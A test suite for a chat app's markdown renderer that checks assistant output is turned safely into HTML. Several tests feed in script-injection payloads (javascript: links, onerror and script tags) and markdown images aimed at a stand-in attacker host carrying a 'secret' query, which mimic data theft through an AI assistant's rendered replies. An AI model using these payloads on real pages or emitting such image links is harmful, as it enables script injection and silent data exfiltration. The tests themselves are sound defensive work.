import { renderMarkdown } from '../../web/src/chat/renderMarkdown';

describe('assistant markdown', () => {
  it('renders headings, lists, emphasis and inline code', () => {
    const html = renderMarkdown('## Steps\n\n- **first** item\n- *second* item\n\n1. run `npm start`\n2. open the URL');
    expect(html).toContain('<h2>Steps</h2>');
    expect(html).toContain('<ul>\n<li><strong>first</strong> item</li>\n<li><em>second</em> item</li>\n</ul>');
    expect(html).toContain('<ol>\n<li>run <code>npm start</code></li>');
  });

  it('renders a code fence with its language, escaping what is inside', () => {
    expect(renderMarkdown('```ts\nconst a = <T,>(x: T) => x && "<b>";\n```')).toBe(
      '<pre><code class="language-ts">const a = &lt;T,&gt;(x: T) =&gt; x &amp;&amp; &quot;&lt;b&gt;&quot;;\n</code></pre>\n',
    );
  });

  it('renders an unterminated fence (mid-stream) as a code block to the end', () => {
    expect(renderMarkdown('Here:\n\n```py\nprint(1)\nfor i in')).toBe(
      '<p>Here:</p>\n<pre><code class="language-py">print(1)\nfor i in</code></pre>\n',
    );
  });

  it('renders a table', () => {
    const html = renderMarkdown('| name | value |\n|---|--:|\n| a | 1 |');
    expect(html).toContain('<table>');
    expect(html).toContain('<th>name</th>');
    expect(html).toContain('<td style="text-align:right">1</td>');
  });

  it('keeps single newlines as line breaks and citations as text', () => {
    expect(renderMarkdown('Sources:\n[1] docs/overview.md — The three panels\n[2] docs/models.md')).toBe(
      '<p>Sources:<br>\n[1] docs/overview.md — The three panels<br>\n[2] docs/models.md</p>\n',
    );
  });

  it('opens links, including bare URLs, in a new tab without a handle back', () => {
    expect(renderMarkdown('[docs](https://example.com/a?b=1)')).toBe(
      '<p><a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer">docs</a></p>\n',
    );
    expect(renderMarkdown('see https://example.com')).toContain(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">https://example.com</a>',
    );
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#x73;cript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<javascript:alert(1)>',
    '[x][r]\n\n[r]: javascript:alert(1)',
  ])('never makes a live link from an unsafe URL: %s', (source) => {
    const html = renderMarkdown(source);
    expect(html).not.toContain('<a');
    expect(html).not.toMatch(/href=/i);
  });

  it.each([
    ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;'],
    ['<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['text <a href="javascript:alert(1)">link</a>', 'text &lt;a href=&quot;javascript:alert(1)&quot;&gt;link&lt;/a&gt;'],
  ])('escapes raw HTML instead of injecting it: %s', (source, escaped) => {
    const html = renderMarkdown(source);
    expect(html).toContain(escaped);
    expect(html).not.toMatch(/<(img|script|a)\b/i);
  });

  it('keeps an unsafe image URL out of the page', () => {
    expect(renderMarkdown('![x](javascript:alert(1))')).not.toContain('<img');
  });

  it.each([
    ['![chart](https://evil.example/c.png?q=secret)', 'https://evil.example/c.png?q=secret', 'image: chart'],
    ['![](http://evil.example/?q=secret)', 'http://evil.example/?q=secret', 'image: http://evil.example/?q=secret'],
    ['![x][r]\n\n[r]: //evil.example/p.gif', '//evil.example/p.gif', 'image: x'],
    ['![x](/api/sessions)', '/api/sessions', 'image: x'],
  ])('shows an image that needs a request as a link, never loads it: %s', (source, href, label) => {
    const html = renderMarkdown(source);
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain(`<a href="${href}" target="_blank" rel="noopener noreferrer" class="image-link">${label}</a>`);
  });

  it("escapes an image link's alt text", () => {
    expect(renderMarkdown('![<b>x</b>](https://a.example/i.png)')).toContain('>image: &lt;b&gt;x&lt;/b&gt;</a>');
  });

  it('draws an inline data: image, which needs no request', () => {
    expect(renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain(
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
    );
  });
});
